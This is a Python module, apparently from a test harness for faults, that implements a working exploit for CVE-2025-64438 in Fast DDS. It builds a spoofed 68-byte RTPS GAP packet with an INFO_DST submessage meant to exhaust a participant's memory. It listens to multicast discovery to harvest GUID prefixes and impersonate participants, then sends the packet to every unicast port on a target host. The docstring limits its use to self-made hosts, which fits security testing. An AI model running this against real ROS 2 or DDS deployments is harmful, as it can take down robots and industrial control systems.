"""CVE-2025-64438: the packet of RTPS that makes Fast DDS take memory for ever, and who sends it.

Its form is public: RTPS 2.3 (OMG formal/2019-04-03), 9.4.5.6 (GAP), 9.4.5.9 (INFO_DST),
9.6.1 (ports). It is sent to hosts of our own making only (faults/network.py).
"""

from __future__ import annotations

import socket
import struct
import time

#: Of the builtin endpoints that tell of publishers, which every participant has.
_READER, _WRITER = bytes.fromhex("000003c7"), bytes.fromhex("000003c2")
_HEADER = b"RTPS" + bytes((2, 3, 1, 15))
_INFO_DST, _GAP, _LITTLE_ENDIAN = 0x0E, 0x08, 0x01
#: Sequence numbers that are "never sent": from one that is still to come to one that never comes.
_FIRST, _LAST = 1_000, 2**40
_GROUP = "239.255.0.1"
#: All participants' multicast port in domain 0, and by how much it differs in each next one; above
#: it the first participant's own, and from each to the next.
_MULTICAST_PORT, _DOMAIN_GAIN, _UNICAST_OFFSET, _PARTICIPANT_GAIN = 7400, 250, 10, 2
_PARTICIPANTS = 32
_PREFIX = slice(8, 20)


def gap_packet(as_from: bytes, to: bytes) -> bytes:
    """In the name of one participant to another (their GUID prefixes, 12 bytes): 68 bytes."""
    info = _submessage(_INFO_DST, to)
    # The bitmap after the last number is empty.
    gap = _READER + _WRITER + _number(_FIRST) + _number(_LAST) + struct.pack("<I", 0)
    return _HEADER + as_from + info + _submessage(_GAP, gap)


def _submessage(kind: int, body: bytes) -> bytes:
    return struct.pack("<BBH", kind, _LITTLE_ENDIAN, len(body)) + body


def _number(value: int) -> bytes:
    return struct.pack("<iI", value >> 32, value & 0xFFFFFFFF)


class Stranger:
    """Somebody on the network, with sockets of the host on which it was made. address: its own;
    domain: ROS_DOMAIN_ID."""

    def __init__(self, address: str, domain: int = 0) -> None:
        self._port = _MULTICAST_PORT + _DOMAIN_GAIN * domain
        self._heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._heard.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._heard.bind(("", self._port))
        membership = socket.inet_aton(_GROUP) + socket.inet_aton(address)
        self._heard.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
        #: GUID prefixes of the participants that announced themselves.
        self.prefixes: set[bytes] = set()

    def listen(self, seconds: float) -> None:
        """To who announces himself."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0.0:
            self._heard.settimeout(left)
            try:
                data, _ = self._heard.recvfrom(65536)
            except TimeoutError:
                return
            self.heard(data)

    def heard(self, data: bytes) -> None:
        """What came to everybody."""
        if data.startswith(b"RTPS") and len(data) >= _PREFIX.stop:
            self.prefixes.add(data[_PREFIX])

    def prefix_of(self, process: int) -> bytes | None:
        """Of the participant of a process, whose number Fast DDS puts there; None: not heard."""
        tail = struct.pack("<H", process & 0xFFFF)
        return next((one for one in self.prefixes if one[4:6] == tail), None)

    def send(self, packet: bytes, host: str) -> None:
        """To every participant on the host: but one takes it for its own."""
        for number in range(_PARTICIPANTS):
            port = self._port + _UNICAST_OFFSET + _PARTICIPANT_GAIN * number
            self._heard.sendto(packet, (host, port))

    def close(self) -> None:
        """Leave."""
        self._heard.close()
